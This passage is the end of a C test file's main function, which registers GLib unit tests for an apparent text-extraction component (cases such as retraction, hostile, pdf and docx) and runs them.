	g_test_add_func("/extract/revise-host-restated", test_revise_host_restated);
	g_test_add_func("/extract/revise-mac-host", test_revise_mac_host);
	g_test_add_func("/extract/revise-retraction", test_revise_retraction);
	g_test_add_func("/extract/credit-conditional-withdrawn", test_credit_conditional_withdrawn);
	g_test_add_func("/extract/revise-withdrawal", test_revise_withdrawal);
	g_test_add_func("/extract/exploited", test_exploited);
	g_test_add_func("/extract/hostile", test_hostile);
	g_test_add_func("/extract/reports-nothing", test_reports_nothing);
	g_test_add_func("/extract/imagined-output", test_imagined_output);
	g_test_add_func("/extract/denied-intl", test_denied_intl);
	g_test_add_func("/extract/pdf", test_pdf);
	g_test_add_func("/extract/docx", test_docx);
	g_test_add_func("/extract/writeup-attached", test_writeup_attached);
	g_test_add_func("/extract/devset", test_devset);
	return g_test_run();
}
